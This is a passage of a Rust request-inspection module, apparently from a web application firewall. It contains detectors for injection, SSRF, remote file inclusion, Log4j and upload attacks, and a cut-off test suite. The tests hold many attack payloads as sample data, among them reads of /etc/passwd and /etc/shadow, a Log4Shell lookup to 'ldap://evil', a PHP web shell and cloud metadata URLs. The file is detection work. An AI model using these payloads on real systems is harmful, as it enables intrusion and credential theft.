    let (_, end, word) = command_word(b, 0)?;
    let (end, word) = if PREFIXES.contains(&word.as_str()) {
        let (_, e, w) = command_word(b, end)?;
        (e, w)
    } else {
        (end, word)
    };
    let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let unambiguous = unambiguous_set().contains(word.as_str()) || unambiguous_set().contains(base);
    let after = b.get(end).copied();
    let shaped = match after {
        None => word.len() >= 4 && !matches!(word.as_str(), "curl" | "bash"),
        Some(b' ') if b[end..].iter().all(|c| *c == b' ') => {
            word.len() >= 4 && !matches!(word.as_str(), "curl" | "bash")
        }
        Some(b' ') => {
            // an argument that looks like one: an option, a path, a variable, a redirection, a
            // host or URL; `Curl O'Brien` is a name
            let rest = &b[end + 1..];
            let arg = rest.split(|c| *c == b' ').next().unwrap_or_default();
            rest.first()
                .is_some_and(|c| matches!(c, b'-' | b'/' | b'.' | b'$' | b'<' | b'>' | b'\'' | b'"' | b'`' | b'~'))
                || arg.iter().any(|c| matches!(c, b':' | b'/' | b'=' | b'|' | b';'))
                || arg.iter().rposition(|c| *c == b'.').is_some_and(|p| p + 1 < arg.len())
        }
        Some(b'<' | b'>' | b';' | b'|') => true,
        _ => false,
    };
    (unambiguous
        && shaped
        && word.len() >= 2
        && !matches!(word.as_str(), "cat" | "dir" | "id" | "ls" | "ps" | "pwd" | "sh" | "cmd")
        || (matches!(word.as_str(), "ls" | "id" | "ps" | "pwd" | "sh" | "cmd" | "cat" | "dir")
            && shaped
            && matches!(after, Some(b' '))
            && b.get(end + 1).is_some_and(|c| matches!(c, b'-' | b'/' | b'\\'))))
    .then_some("value is a shell command")
}

fn windows_batch(b: &[u8]) -> Option<&'static str> {
    let text = std::str::from_utf8(b).ok()?;
    let words: Vec<&str> = text.split_whitespace().take(64).collect();
    const COMPARE: &[&str] = &["==", "equ", "neq", "lss", "leq", "gtr", "geq"];
    for (i, w) in words.iter().enumerate() {
        let w = w.trim_start_matches(['&', '|', ';', '(', '@']);
        let next = words.get(i + 1).copied().unwrap_or_default();
        let start_of_command = i == 0 || words[i - 1].ends_with(['&', '|', ';', '(']) || w != words[i];
        if w == "for"
            && (next.starts_with("/f")
                || next.starts_with("/d")
                || next.starts_with("/r")
                || next.starts_with("/l")
                || next.starts_with('%'))
        {
            return Some("Windows FOR command");
        }
        let (w, glued) = match w.strip_prefix("if/i") {
            Some(rest) => ("if", Some(rest)),
            None => (w, None),
        };
        if w == "if" && start_of_command {
            if glued.is_some()
                || next.starts_with('%')
                || next.starts_with("\"%")
                || next.starts_with("\"!")
                || matches!(next, "exist" | "not" | "errorlevel" | "defined" | "/i" | "cmdextversion")
            {
                return Some("Windows IF command");
            }
            let rest = &words[i + 1..words.len().min(i + 5)];
            if rest.iter().any(|r| COMPARE.contains(r) || r.contains("==")) {
                return Some("Windows IF command");
            }
        }
    }
    None
}

/// Shell expansions that only a shell reads: `$[2+2]`, `${x#y}`, `${PATH%/*}`, and glob
/// classes inside system paths (`/etc/pas[s]wd`, `/bi[n]/bash`).
fn shell_expansion(b: &[u8]) -> Option<&'static str> {
    if bytes::find(b, b"$[").is_some() {
        return Some("shell arithmetic expansion");
    }
    let mut from = 0;
    while let Some(p) = bytes::find(&b[from..], b"${") {
        let start = from + p + 2;
        let name = b[start..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
        if name > 0 && matches!(b.get(start + name), Some(b'#' | b'%' | b'/' | b'^' | b',' | b'@')) {
            return Some("shell parameter expansion");
        }
        from = start;
    }
    for p in memchr::memchr_iter(b'[', b) {
        let close = b[p..].iter().position(|&c| c == b']').map(|q| p + q);
        let Some(close) = close else { continue };
        let in_path = b[..p]
            .iter()
            .rposition(|&c| c == b'/')
            .is_some_and(|slash| b[slash + 1..p].iter().all(u8::is_ascii_alphanumeric));
        let class = &b[p + 1..close];
        let globby = !class.is_empty()
            && class.len() <= 12
            && class.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'!' | b'^' | b'-' | b'/'));
        let rooted = b.first() == Some(&b'/') || b.starts_with(b"cat ") || b.contains(&b' ');
        if in_path && globby && rooted && b.contains(&b'/') {
            return Some("shell glob in a path");
        }
    }
    None
}

/// Template expressions: `{{7*7}}`, `${...}`, `#{...}`, `<%= %>`, `{% %}`, `*{...}`.
fn template(b: &[u8]) -> Option<&'static str> {
    for (open, close) in [
        (&b"{{"[..], &b"}}"[..]),
        (b"${", b"}"),
        (b"#{", b"}"),
        (b"<%", b"%>"),
        (b"{%", b"%}"),
        (b"*{", b"}"),
        (b"@{", b"}"),
        (b"[[", b"]]"),
    ] {
        let mut from = 0;
        let mut seen = 0;
        while let Some(p) = bytes::find(&b[from..], open) {
            seen += 1;
            if seen > 64 {
                break;
            }
            let start = from + p + open.len();
            // expressions are short: look for the end within 513 bytes
            let window = &b[start..b.len().min(start + 513)];
            let end = bytes::find(window, close).map_or(start + window.len(), |q| start + q);
            let inner = &b[start..end];
            from = start;
            if inner.is_empty() || inner.len() > 512 {
                continue;
            }
            if open == b"${" && (inner.starts_with(b"jndi") || inner.contains(&b':')) && !inner.contains(&b'(') {
                continue; // Log4j lookups and shell defaults are handled elsewhere
            }
            let arithmetic = inner.windows(3).any(|w| {
                w[0].is_ascii_digit()
                    && matches!(w[1], b'*' | b'+' | b'/' | b'-')
                    && (w[2].is_ascii_digit() || w[2] == b'\'')
            });
            let code = inner.contains(&b'(') || bytes::find(inner, b"__").is_some() || inner.contains(&b'[');
            let names = [
                &b"config"[..],
                b"self",
                b"request",
                b"lipsum",
                b"cycler",
                b"joiner",
                b"namespace",
                b"runtime",
                b"getclass",
                b"t(java",
                b"system",
                b"class.",
                b"exec",
                b"import",
                b"freemarker",
                b"object",
            ];
            let known = names.iter().any(|n| bytes::find(inner, n).is_some());
            let only_names = inner.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b' ' | b'-'));
            if arithmetic || known || (code && !only_names) {
                if open == b"[[" && !arithmetic && !known {
                    continue;
                }
                return Some("template expression");
            }
        }
    }
    None
}

/// LDAP filter injection: `*)(uid=*`, `)(|(`, `(|(mail=*))`, `*()|&`.
fn ldap(b: &[u8], mask: u32) -> Option<&'static str> {
    // every form below needs an `=` or a `*`: prose in parentheses has neither
    if mask & (chars::COMPARE | chars::STAR) == 0 {
        return None;
    }
    let has = |n: &[u8]| bytes::find(b, n).is_some();
    if (has(b")(") && b.contains(&b'=') && b.iter().filter(|&&c| c == b')').count() >= 2)
        || (has(b"*(") && (b.contains(&b'|') || b.contains(&b'&')))
    {
        return Some("LDAP filter syntax");
    }
    let filter_syntax = has(b")(") || has(b"(|(") || has(b"(&(") || has(b"(!(") || has(b"*)(") || has(b"*))");
    let attribute = b.contains(&b'=') || b.contains(&b'*');
    (filter_syntax && attribute && (b.contains(&b'*') || has(b"(|") || has(b"(&") || has(b"(!")))
        .then_some("LDAP filter syntax")
}

/// MongoDB operators and server-side JavaScript: `{ $ne: 1 }`, `db.users.find(`, `|| 1==1`.
/// `mask`: the value's `char_mask`, so that searches for strings it cannot hold are skipped.
fn nosql(b: &[u8], mask: u32) -> Option<&'static str> {
    use chars::*;
    let any = |bits: u32| mask & bits != 0;
    const OPERATORS: &[&[u8]] = &[
        b"ne",
        b"gt",
        b"gte",
        b"lt",
        b"lte",
        b"in",
        b"nin",
        b"regex",
        b"where",
        b"exists",
        b"or",
        b"and",
        b"nor",
        b"not",
        b"expr",
        b"elemmatch",
        b"comment",
    ];
    let dollars = any(DOLLAR).then(|| memchr::memchr_iter(b'$', b)).into_iter().flatten();
    for p in dollars {
        let name_len = b[p + 1..].iter().take_while(|c| c.is_ascii_alphabetic()).count();
        let name = &b[p + 1..p + 1 + name_len];
        let mut k = p + 1 + name_len;
        if b.get(k) == Some(&b'"') || b.get(k) == Some(&b'\'') {
            k += 1;
        }
        while k < b.len() && b[k] == b' ' {
            k += 1;
        }
        let before_ok = p == 0 || matches!(b[p - 1], b'{' | b' ' | b',' | b'"' | b'\'' | b'[');
        // `{$ne: 1}`, `"$gt":`, and `[$lte]` as a query-string key ends up in a value
        let bracketed = p > 0 && b[p - 1] == b'[' && b.get(p + 1 + name_len) == Some(&b']');
        if before_ok && OPERATORS.contains(&name) && (b.get(k) == Some(&b':') || bracketed) {
            return Some("MongoDB query operator");
        }
    }
    if let Some(p) = any(DOT).then(|| bytes::find(b, b"db.")).flatten() {
        let rest = &b[p + 3..];
        let coll = rest.iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
        let method = &rest[coll..];
        if method.starts_with(b".")
            && [&b".find"[..], b".insert", b".update", b".remove", b".drop", b".aggregate", b".delete"]
                .iter()
                .any(|m| method.starts_with(m))
        {
            return Some("MongoDB shell call");
        }
    }
    let has = |n: &[u8]| bytes::find(b, n).is_some();
    let returns = any(SEMI) && (has(b"';return") || has(b"\";return"));
    let compares = any(PIPE) && any(COMPARE) && has(b"||") && has(b"==");
    let loops = any(PAREN) && any(SEMI | BRACE) && (has(b"}while(") || has(b";while("));
    (returns || compares || loops).then_some("server-side JavaScript")
}

/// An entity reference left after decoding the HTML ones: `&xxe;`, `%param;`.
fn entity_reference(b: &[u8]) -> Option<&'static str> {
    for p in memchr::memchr2_iter(b'&', b'%', b) {
        let name = b[p + 1..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
        if name >= 2 && b.get(p + 1 + name) == Some(&b';') && b[p + 1].is_ascii_alphabetic() {
            let word = &b[p + 1..p + 1 + name];
            const HTML: &[&[u8]] = &[
                b"copy", b"reg", b"trade", b"hellip", b"mdash", b"ndash", b"laquo", b"raquo", b"euro", b"pound",
                b"yen", b"cent", b"deg", b"para", b"sect", b"middot", b"bull", b"times", b"divide", b"rsquo", b"lsquo",
                b"ldquo", b"rdquo", b"shy", b"iexcl", b"iquest", b"micro", b"plusmn", b"frac12", b"frac14", b"frac34",
                b"sup2", b"sup3", b"ordm", b"ordf", b"acute", b"uml", b"cedil", b"macr", b"curren", b"brvbar", b"not",
                b"zwj", b"zwnj", b"lrm", b"rlm", b"ensp", b"emsp", b"thinsp",
            ];
            let accented = word.len() > 4
                && [&b"acute"[..], b"grave", b"circ", b"uml", b"tilde", b"ring", b"slash", b"cedil", b"lig"]
                    .iter()
                    .any(|s| word.ends_with(s));
            if !HTML.contains(&word) && !accented {
                return Some("XML entity reference");
            }
        }
    }
    None
}

/// CR or LF followed by what looks like a header or a status line.
fn crlf(b: &[u8], in_header: bool) -> Option<&'static str> {
    for p in memchr::memchr2_iter(b'\r', b'\n', b) {
        if in_header {
            return Some("line break in a header value");
        }
        let rest = &b[p + 1..];
        let rest = rest.strip_prefix(b"\n").unwrap_or(rest);
        let rest = rest.strip_prefix(b"\r").unwrap_or(rest);
        let rest = rest.strip_prefix(b"\n").unwrap_or(rest);
        let name_len = rest.iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'-').count();
        if name_len >= 2 && rest.get(name_len) == Some(&b':') && rest[..name_len].iter().any(u8::is_ascii_alphabetic) {
            return Some("line break followed by a header");
        }
        if rest.starts_with(b"http/1") || rest.starts_with(b"<") {
            return Some("line break followed by a response");
        }
    }
    None
}

/// `${jndi:...}` after resolving the nested lookups used to hide it (`${lower:j}`,
/// `${::-n}`, `${env:X:-d}`).
fn log4j(v: &str) -> Option<&'static str> {
    if !v.contains("${") {
        return None;
    }
    let mut s = v.to_owned();
    for _ in 0..16 {
        let Some(start) = find_innermost_lookup(&s) else { break };
        let Some(len) = s[start..].find('}') else { break };
        let inner = &s[start + 2..start + len];
        let replacement = if let Some(pos) = inner.find(":-") {
            inner[pos + 2..].to_owned()
        } else if let Some(rest) = inner.strip_prefix("lower:").or_else(|| inner.strip_prefix("upper:")) {
            rest.to_owned()
        } else {
            break;
        };
        s.replace_range(start..start + len + 1, &replacement);
    }
    const LOOKUPS: &[&str] = &[
        "${jndi:",
        "${env:",
        "${sys:",
        "${java:",
        "${ctx:",
        "${main:",
        "${sd:",
        "${docker:",
        "${k8s:",
        "${spring:",
        "${base64:",
        "${bundle:",
        "${web:",
        "${log4j:",
        "${marker:",
        "${jvmrunargs:",
        "${date:",
        "${event:",
    ];
    LOOKUPS.iter().any(|l| s.contains(l)).then_some("Log4j lookup")
}

/// Start of a `${` whose body has no further `${` (the innermost one).
fn find_innermost_lookup(s: &str) -> Option<usize> {
    let mut best = None;
    let mut from = 0;
    let mut rounds = 0;
    while let Some(p) = s[from..].find("${") {
        rounds += 1;
        if rounds > 64 {
            break;
        }
        let pos = from + p;
        let close = s[pos..].find('}').map(|c| pos + c);
        let next_open = s[pos + 2..].find("${").map(|n| pos + 2 + n);
        match (close, next_open) {
            (Some(c), Some(n)) if n < c => from = pos + 2,
            (Some(c), _) => {
                let inner = &s[pos + 2..c];
                if inner.contains(":-") || inner.starts_with("lower:") || inner.starts_with("upper:") {
                    best = Some(pos);
                    break;
                }
                from = pos + 2;
            }
            _ => break,
        }
    }
    best
}

/// PHP open tags, serialized objects and variable function calls. `mask`: the value's
/// `char_mask`, to skip the searches for what its characters rule out (a URL or a time of day
/// has the colon that brings it here, and nothing else this looks for).
fn php_structures(b: &[u8], mask: u32) -> Option<&'static str> {
    use chars::*;
    let any = |bits: u32| mask & bits != 0;
    if let Some(p) = any(ANGLE).then(|| bytes::find(b, b"<?")).flatten() {
        let rest = &b[p + 2..];
        let xml_decl = rest.starts_with(b"xml")
            && rest.get(3).is_some_and(|c| c.is_ascii_whitespace())
            && rest.get(4).is_some_and(|c| c.is_ascii_alphabetic());
        if !xml_decl {
            return Some("PHP open tag");
        }
    }
    let tag = |t: &[u8]| bytes::find(b, t).is_some();
    let brackets = any(BRACKET) && (tag(b"[php]") || tag(b"[/php]") || tag(b"[\\php]"));
    if brackets || any(BRACE) && (tag(b"{php}") || tag(b"{/php}")) {
        return Some("PHP open tag");
    }
    // O:8:"stdClass":1:{...} / a:2:{i:0;...}
    let serialized = any(COLON) && any(QUOTE | BRACE);
    for (i, w) in b.windows(2).enumerate().filter(|_| serialized) {
        if matches!(w[0], b'o' | b'c' | b'a') && w[1] == b':' && (i == 0 || !b[i - 1].is_ascii_alphanumeric()) {
            let digits = b[i + 2..].iter().take_while(|c| c.is_ascii_digit()).count();
            let after = b.get(i + 2 + digits..i + 4 + digits);
            if digits > 0 && (after == Some(b":\"") || (w[0] == b'a' && after.is_some_and(|a| a.starts_with(b":{")))) {
                return Some("PHP serialized object");
            }
        }
    }
    // `${'a'}`, `$ { CONSTANT }`: variable variables
    for p in memchr::memchr_iter(b'$', b) {
        let spaces = b[p + 1..].iter().take_while(|c| **c == b' ').count();
        if spaces > 0 && b.get(p + 1 + spaces) == Some(&b'{') {
            return Some("PHP variable variable");
        }
        if b.get(p + 1) == Some(&b'{') && matches!(b.get(p + 2), Some(b'\'' | b'"' | b'@' | b' ')) {
            return Some("PHP variable variable");
        }
    }
    // $a(...), $GLOBALS['x'](1), ${'a'}(1), foo::$bar()
    for p in memchr::memchr_iter(b'$', b) {
        let mut i = p + 1;
        if b.get(i) == Some(&b'{') {
            let window = &b[i..b.len().min(i + 256)];
            i = window.iter().position(|&c| c == b'}').map_or(i + window.len(), |q| i + q + 1);
        } else {
            let name = b[i..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
            if name == 0 || b[i].is_ascii_digit() {
                continue;
            }
            i += name;
        }
        loop {
            while i < b.len() && b[i].is_ascii_whitespace() {
                i += 1;
            }
            if matches!(b.get(i), Some(b'[' | b'{')) && i > p + 1 && !matches!(b.get(i + 1), Some(b']' | b'}')) {
                // `$__[$_[1]]`, `$OOO0{0}`: an index, nested indexes included
                i = closing(b, i).map_or(b.len(), |q| q + 1);
            } else if b[i..].starts_with(b"/*") {
                i = bytes::find(&b[i + 2..], b"*/").map_or(b.len(), |q| i + 2 + q + 2);
            } else if b[i..].starts_with(b"//") || b.get(i) == Some(&b'#') {
                i = b[i..].iter().position(|&c| c == b'\n').map_or(b.len(), |q| i + q + 1);
            } else {
                break;
            }
        }
        if b.get(i) == Some(&b'(') {
            return Some("PHP variable function call");
        }
    }
    None
}

/// A value that is a URL (or a bare host): remote file inclusion and SSRF.
fn url_value(v: &str, key: &str) -> Option<(&'static str, &'static str)> {
    let v = v.trim();
    let (scheme, rest) = match v.find(':') {
        Some(p)
            if p > 0
                && p < 16
                && v[..p].bytes().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'.' | b'-')) =>
        {
            let after = &v[p + 1..];
            match after.strip_prefix("//") {
                Some(rest) => (&v[..p], rest),
                // `http:127.0.0.1`: browsers and curl accept a scheme without slashes
                None if matches!(&v[..p], "http" | "https") => (&v[..p], after),
                None => ("", v),
            }
        }
        _ => ("", v),
    };
    let authority_end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let authority = &rest[..authority_end];
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if host_port.starts_with('[') {
        host_port.split(']').next().unwrap_or(host_port).trim_start_matches('[')
    } else {
        host_port.split(':').next().unwrap_or(host_port)
    };
    let internal = internal_host(host);
    if internal
        && (!scheme.is_empty()
            || authority_end < rest.len()
            || host_port.contains(':')
            || host == "localhost"
            || host.contains('-'))
    {
        return Some(("ssrf", "URL to an internal address"));
    }
    let web = matches!(scheme, "http" | "https" | "ftp" | "ftps");
    if web {
        let ip_host = host.parse::<std::net::Ipv4Addr>().is_ok()
            || host.parse::<std::net::Ipv6Addr>().is_ok()
            || host_port.starts_with('[')
            || host_port.matches(':').count() >= 2;
        let lower_key = key.to_ascii_lowercase();
        let known_rfi_param = [
            "mosconfig_absolute_path",
            "_conf[path]",
            "phpbb_root_path",
            "pm_path",
            "include_path",
            "path_to_root",
            "base_path",
            "abspath",
            "gallery_basedir",
            "dir_prefix",
            "root_path",
            "appserv_root",
            "rootdir",
        ]
        .iter()
        .any(|k| lower_key == *k);
        if known_rfi_param {
            return Some(("rfi", "URL in a parameter known for remote file inclusion"));
        }
        let trailing_question = v.ends_with('?');
        let rfi_param = [
            "include",
            "inc",
            "require",
            "file",
            "page",
            "path",
            "template",
            "mosconfig_absolute_path",
            "phpbb_root_path",
            "src",
            "doc",
            "document",
            "folder",
            "root",
            "pg",
            "style",
            "pdf",
            "show",
            "cat",
            "dir",
            "action",
            "board",
            "date",
            "detail",
            "download",
            "prefix",
            "conf",
            "url",
        ]
        .iter()
        .any(|k| lower_key == *k)
            || lower_key.contains("_path")
            || lower_key.contains("[path]");
        let script_target =
            [".php", ".txt", ".asp", ".jsp", ".cgi", ".pl", ".sh", ".exe"].iter().any(|e| rest.contains(e));
        // APIs hand out web URLs to addresses now and then; an FTP URL to a bare address is
        // a file being fetched from a host that has no name
        let ftp = scheme.starts_with("ftp");
        if trailing_question
            || (ip_host && (script_target || rfi_param || ftp))
            || (rfi_param && script_target && key.len() > 3)
        {
            return Some(("rfi", "remote file inclusion URL"));
        }
    } else if matches!(v, "http?" | "https?" | "ftp?" | "ftps?" | "file?") {
        return Some(("rfi", "remote file inclusion URL"));
    }
    None
}

fn internal_host(host: &str) -> bool {
    if host.is_empty() {
        return false;
    }
    if matches!(
        host,
        "localhost"
            | "localhost.localdomain"
            | "localhost4"
            | "localhost6"
            | "localhost4.localdomain4"
            | "localhost6.localdomain6"
            | "0"
            | "127.1"
            | "127.0.1"
            | "0.0.0.0"
            | "::1"
            | "::"
            | "ip6-localhost"
            | "ip6-loopback"
            | "ipv6-localhost"
            | "ipv6-loopback"
            | "metadata"
            | "instance-data"
            | "localtest.me"
            | "lvh.me"
            | "metadata.packet.net"
            | "metadata.platformequinix.com"
            | "metadata.tencentyun.com"
    ) || host.ends_with(".localhost")
        || host.ends_with(".internal")
        || host.ends_with(".local")
        || host.ends_with(".svc.cluster.local")
    {
        return true;
    }
    // each parse only where it can succeed: this runs on every value with a colon or slash
    let numeric = |extra: u8| host.bytes().all(|c| c.is_ascii_digit() || c == extra);
    if let Some(Ok(ip)) = numeric(b'.').then(|| host.parse::<std::net::Ipv4Addr>()) {
        return ip.is_loopback()
            || ip.is_private()
            || ip.is_link_local()
            || ip.is_unspecified()
            || ip.octets()[0] == 100 && (64..128).contains(&ip.octets()[1]);
    }
    if let Some(Ok(ip)) = host.contains(':').then(|| host.parse::<std::net::Ipv6Addr>()) {
        return ip.is_loopback()
            || ip.is_unspecified()
            || (ip.segments()[0] & 0xfe00) == 0xfc00
            || (ip.segments()[0] & 0xffc0) == 0xfe80
            || ip.to_ipv4_mapped().is_some_and(|v4| v4.is_loopback() || v4.is_private());
    }
    // decimal (2130706433), hex (0x7f000001) and octal (0177.0.0.1) forms of 127/8
    if let Some(Ok(n)) = numeric(b'+').then(|| host.parse::<u32>()) {
        return n >> 24 == 127 || n >> 24 == 10 || n >> 16 == 0xa9fe || n >> 16 == 0xc0a8;
    }
    if let Some(hex) = host.strip_prefix("0x") {
        return u32::from_str_radix(hex, 16).is_ok_and(|n| n >> 24 == 127 || n >> 16 == 0xa9fe);
    }
    host.starts_with("0177.") || host.starts_with("017700000001")
}

/// Uploaded file names that execute on the server or reconfigure it.
fn upload_name(v: &str) -> Option<(&'static str, &'static str)> {
    let name = v.rsplit(['/', '\\']).next().unwrap_or(v).trim();
    // `settings. php`: servers drop the space
    let compact: String = name.chars().filter(|c| *c != ' ').collect();
    // configuration an application reads at start: replacing it runs the uploader's code
    if compact.starts_with("wp-config")
        || matches!(
            compact.as_str(),
            "settings.php" | "config.yml" | "config.php" | "local.xml" | ".boto" | "mtrr" | "acpi"
        )
    {
        return Some(("command_injection", "upload of an application's configuration file"));
    }
    // `a.php..`, `shell. jsp `: servers drop trailing dots and spaces
    let trimmed = name.trim_end_matches(['.', ' ']);
    let ext = trimmed.rsplit('.').next().unwrap_or_default().trim();
    if ext.starts_with("php") || matches!(ext, "phtml" | "pht" | "phar" | "phps") {
        return Some(("php_injection", "PHP script upload"));
    }
    if name.starts_with("sess_") {
        return Some(("php_injection", "PHP session file upload"));
    }
    if matches!(ext, "jsp" | "jspx" | "jspf" | "jsw" | "jsv") {
        return Some(("java_injection", "Java server page upload"));
    }
    if matches!(
        name,
        ".htaccess"
            | ".htpasswd"
            | "web.config"
            | ".user.ini"
            | "php.ini"
            | ".bashrc"
            | ".bash_profile"
            | ".profile"
            | "authorized_keys"
            | ".gitconfig"
            | ".npmrc"
    ) {
        return Some(("command_injection", "upload of a server configuration file"));
    }
    None
}

/// Framing anomalies in a request's headers (names lower case).
pub fn protocol_anomaly<'h>(headers: impl Iterator<Item = (&'h str, &'h str)>) -> Option<&'static str> {
    let mut content_length: Option<&str> = None;
    let mut transfer_encoding = false;
    let mut hosts = 0;
    for (name, value) in headers {
        let name = name.to_ascii_lowercase();
        match name.as_str() {
            "content-length" => {
                if content_length.is_some_and(|v| v != value)
                    || value.contains(',')
                    || !value.trim().bytes().all(|c| c.is_ascii_digit())
                {
                    return Some("conflicting or invalid Content-Length");
                }
                content_length = Some(value);
            }
            "transfer-encoding" => {
                transfer_encoding = true;
                if !value.trim().eq_ignore_ascii_case("chunked") {
                    return Some("unusual Transfer-Encoding");
                }
            }
            "host" | ":authority" => hosts += 1,
            "request-range" => return Some("obsolete Request-Range header"),
            _ => {}
        }
        if value.contains(['\r', '\n', '\0']) {
            return Some("control character in a header value");
        }
    }
    if hosts > 1 {
        return Some("duplicate Host header");
    }
    if transfer_encoding && content_length.is_some() {
        return Some("both Content-Length and Transfer-Encoding");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::{normalize, Direction};

    fn shared_rules() -> &'static Rules {
        static RULES: std::sync::OnceLock<Rules> = std::sync::OnceLock::new();
        RULES.get_or_init(Rules::new)
    }

    /// Bytes with keywords and the bytes of the two-byte classes mixed in.
    fn keyword_soup() -> impl proptest::strategy::Strategy<Value = Vec<u8>> {
        use proptest::prelude::*;
        const WORDS: &[&str] =
            &["etc/passwd", "java.lang", "${jndi:", "<!doctype", "--", "0x", "union", "$where", "-", "0"];
        let piece = prop_oneof![
            any::<u8>().prop_map(|b| vec![b]),
            proptest::sample::select(WORDS).prop_map(|w| w.as_bytes().to_vec())
        ];
        proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
    }

    proptest::proptest! {
        /// The fused pass agrees with `char_mask` and with the crate's own overlapping search,
        /// also where it stops stepping the automaton at the first keyword.
        #[test]
        fn keyword_and_mask_pass_agrees(b in keyword_soup()) {
            let Some(dfa) = shared_rules().automaton.as_ref() else { return Err(proptest::test_runner::TestCaseError::fail("no automaton")) };
            let (any, mask) = any_keyword_and_mask(dfa, &b);
            proptest::prop_assert_eq!(mask, char_mask(&b));
            let mut reference = 0;
            for (i, &c) in b.iter().enumerate() {
                reference |= single_byte_class(c);
                if i > 0 { reference |= pair_class(b[i - 1], c); }
            }
            proptest::prop_assert_eq!(mask, reference);
            proptest::prop_assert_eq!(any, overlapping(dfa, &b).next().is_some());
        }
    }

    fn classes(key: &str, value: &str) -> Vec<&'static str> {
        let rules = Rules::new();
        let site = Site { direction: Direction::Request, part: Part::Query, field: key, key };
        let mut out = Vec::new();
        rules.scan(site, &normalize(value), &mut |c, _, _| out.push(c));
        out
    }

    #[test]
    fn each_class_fires() {
        let cases = [
            ("q", "1' OR '1'='1", "sqli"),
            ("q", "<script>alert(1)</script>", "xss"),
            ("q", r#"<a href="javascript:alert(1)">x</a>"#, "xss"),
            ("q", r#"<root><a probe="ja&amp;tab;vascript:alert(1)"></a></root>"#, "xss"),
            ("q", "x' LIKE 'a%", "sqli"),
            ("file", "../../../../etc/passwd", "path_traversal"),
            ("cmd", "; cat /etc/passwd", "command_injection"),
            // shell forms without a separator, and programs behind quoting tricks
            ("code", "$SHELL -c \"echo hi\"", "command_injection"),
            ("x", "c{a,oun}t /etc/hosts", "command_injection"),
            ("x", "{,ifconfig,eth0}", "command_injection"),
            ("x", "!-1!-2", "command_injection"),
            ("x", "~+", "command_injection"),
            ("x", "\\ls", "command_injection"),
            ("x", "ti''me sh -c whoami", "command_injection"),
            ("x", "a; sh$XX -c whoami", "command_injection"),
            ("x", "|$u wget test", "command_injection"),
            ("x", "time; ansible-config dump", "command_injection"),
            ("x", "perf --version", "command_injection"),
            ("x", "c99 -wrapper sh,-c,curl example.com .", "command_injection"),
            // PHP calls through expressions, obfuscated names, php.ini lines
            ("x", "(sy.(st).em)('uname');", "php_injection"),
            ("x", "\"\\x73y\\x73tem\"(ls);", "php_injection"),
            ("x", "$__[$_[1]](7)", "php_injection"),
            ("x", "FOOcall_user_func()", "php_injection"),
            ("x", "exec /*comment*/ ()", "php_injection"),
            ("x", "memory_limit = 512M", "php_injection"),
            ("x", "opcache.jit_max_polymorphic_calls=50", "php_injection"),
            // traversal with separators no decoder restores
            ("f", "..%c1%1c..%c1%1cetc%c1%1cpasswd", "path_traversal"),
            ("f", "..0x2f..0x2f..0x2fetc0x2fpasswd", "path_traversal"),
            ("f", "?.%%35%%63?.%%35%%63boot.ini", "path_traversal"),
            // statement fragments
            ("q", "UnIon seleCt\n", "sqli"),
            ("q", "EXECUTE IMMEDIATE \"", "sqli"),
            ("q", " case when a then b", "sqli"),
            ("id", "password::int", "sqli"),
            ("q", "` AS `edit_user_id` from", "sqli"),
            ("q", ";truncate[xx", "sqli"),
            ("q", "'x'!='y", "sqli"),
            ("host", "127.0.0.1; whoami", "command_injection"),
            ("x", "for /f %i in ('dir') do echo %i", "command_injection"),
            ("url", "http://169.254.169.254/latest/meta-data/", "ssrf"),
            ("url", "gopher://127.0.0.1:6379/_INFO", "ssrf"),
            ("page", "http://66.240.183.75/shell.txt?", "rfi"),
            ("tag", "ftp://1.1.1.1", "rfi"),
            ("name", "{{7*7}}", "ssti"),
            ("name", "${T(java.lang.Runtime).getRuntime().exec('id')}", "ssti"),
            ("user", "*)(uid=*))(|(uid=*", "ldap_injection"),
            ("x", "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "xxe"),
            ("x", "${${lower:j}ndi:ldap://evil/a}", "log4shell"),
            ("x", "x%0d%0aSet-Cookie:%20a=b", "crlf_injection"),
            ("x", "java.lang.Runtime", "java_injection"),
            ("x", "<?php system($_GET['c']); ?>", "php_injection"),
            ("x", "O:8:\"stdClass\":0:{}", "php_injection"),
            ("x", "require('child_process').exec('id')", "code_injection"),
            ("x", "<!--#exec cmd=\"ls\" -->", "ssi_injection"),
            ("x", "' or count(/child::node())=1 or '", "xpath_injection"),
            ("x", "true, $where: '1 == 1'", "nosqli"),
            ("code", "time ifconfig", "command_injection"),
            ("x", "1; exec /bin/sh", "command_injection"),
            ("x", "@@version", "sqli"),
            ("x", "ifconfig", "command_injection"),
            ("x", "x; sudo cat /etc/shadow", "command_injection"),
            ("x", r#"<a href="../../etc/passwd">"#, "path_traversal"),
        ];
        for (key, value, class) in cases {
            let got = classes(key, value);
            assert!(got.contains(&class), "{value}: want {class}, got {got:?}");
        }
    }

    #[test]
    fn ordinary_values_stay_quiet() {
        for value in [
            "John O'Neil",
            "42 Main St., Springfield",
            "https://www.example.com/products?id=7",
            "Meeting at 10:30; bring the slides",
            "cats & dogs",
            "{{first_name}}",
            "price: $5 (incl. tax)",
            "v1.2..1.5 range",
            "user@example.com",
            "I like cat videos",
            "curl",
            "select your plan",
            "Q&A session | 2pm",
            "a=b; c=d",
            "the system (v2) is down",
            // near misses of the rules above
            "fields={id,name}",
            "Section 5(a)(1)",
            "just in case when it rains then we stay",
            "std::string",
            "Wow!",
            "~ approx",
            "engine: v8",
            "etc. and passwd reset",
            "trade union, select committee",
            "Union Select",
            // rich text and markup from libinjection's benign list
            r#"see <a href="/apps/">the gallery</a>!"#,
            r#"pr_shop">MamaBearBabyWear</a>"#,
